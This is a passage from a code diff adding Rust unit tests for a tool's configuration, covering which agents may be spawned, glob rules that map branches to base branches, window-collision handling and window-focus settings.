+        assert!(!policy.allows_agent("sh", Some("sh")));
+        assert!(policy.allows_base("release/1.2"));
+        assert!(!policy.allows_base("develop"));
+        assert!(policy.allows_layout("anything"));
+    }
+
+    #[test]
+    fn spawn_policy_defaults_to_configured_agent() {
+        let policy = SpawnPolicyConfig::default();
+        assert!(policy.allows_agent("claude", Some("claude")));
+        assert!(!policy.allows_agent("codex", Some("claude")));
+        assert!(!policy.allows_agent("claude", None));
+        assert!(policy.allows_base("any/branch"));
+    }
+
+    #[test]
+    fn base_branches_first_matching_rule_wins() {
+        let config: Config = serde_yaml::from_str(
+            r#"
+base_branches:
+  - pattern: "hotfix/*"
+    base: release/1.2
+  - pattern: "hotfix/legacy-*"
+    base: release/1.1
+  - pattern: "backport-?"
+    base: release/1.1
+"#,
+        )
+        .unwrap();
+        assert_eq!(config.base_for_branch("hotfix/login"), Some("release/1.2"));
+        assert_eq!(
+            config.base_for_branch("hotfix/legacy-auth"),
+            Some("release/1.2")
+        );
+        assert_eq!(config.base_for_branch("backport-1"), Some("release/1.1"));
+        assert_eq!(config.base_for_branch("feature"), None);
+        assert!(config.validate_base_branches().is_ok());
+
+        let invalid: Config =
+            serde_yaml::from_str("base_branches:\n  - pattern: \"[oops\"\n    base: main\n")
+                .unwrap();
+        assert!(invalid.validate_base_branches().is_err());
+    }
+
+    #[test]
+    fn on_collision_project_overrides_global() {
+        let global: Config = serde_yaml::from_str("on_collision: reuse").unwrap();
+        assert_eq!(global.on_collision(), WindowCollision::Reuse);
+        assert_eq!(Config::default().on_collision(), WindowCollision::Fail);
+
+        let project: Config = serde_yaml::from_str("on_collision: suffix").unwrap();
+        let merged = global.merge(project);
+        assert_eq!(merged.on_collision(), WindowCollision::Suffix);
+    }
+
+    #[test]
+    fn focus_new_window_parses_kebab_case() {
+        let config: Config = serde_yaml::from_str("focus_new_window: if-idle").unwrap();
+        assert_eq!(config.focus_new_window(), FocusPolicy::IfIdle);
+        assert_eq!(Config::default().focus_new_window(), FocusPolicy::Always);
+    }
 }